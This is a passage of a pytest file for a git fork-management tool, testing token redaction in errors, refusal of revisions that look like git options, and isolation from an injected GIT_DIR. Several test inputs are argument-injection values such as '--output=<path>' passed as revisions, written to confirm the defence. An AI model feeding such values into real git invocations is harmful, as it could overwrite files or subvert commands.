            sink.find("0123456789abcdef")
        assert says in str(e.value) and "ghp_secret_token" not in str(e.value)
    finally:
        srv.shutdown()
        srv.server_close()


def test_a_revision_that_is_a_git_option_is_refused(fork: Path, tmp_path: Path) -> None:
    from forkflow.errors import UserError

    repo = Repo.open(fork)
    out = tmp_path / "written"
    for call in (lambda: repo.resolve(f"--output={out}"), lambda: repo.merge_base("HEAD", f"--output={out}"),
                 lambda: repo.commit_date("--all"), lambda: repo.rev_before("--all", 0)):
        with pytest.raises(UserError, match="starts with '-'"):
            call()
    assert not repo.is_ancestor("--all", "HEAD") and not out.exists()


def test_l1_command_sees_its_own_tree_not_a_hooks_git_dir(cli, builder: ForkBuilder, tmp_path: Path,  # type: ignore[no-untyped-def]
                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    seen = tmp_path / "seen"
    fork = _l1_fork(cli, builder, f"git rev-parse HEAD > {seen}")
    monkeypatch.setenv("GIT_DIR", str(builder.upstream.path / ".git"))
    doc = cli("ingest", "--json", repo=fork).json()
    (unit,) = doc["units"]
    assert seen.read_text().strip() == unit["fork_sha"]
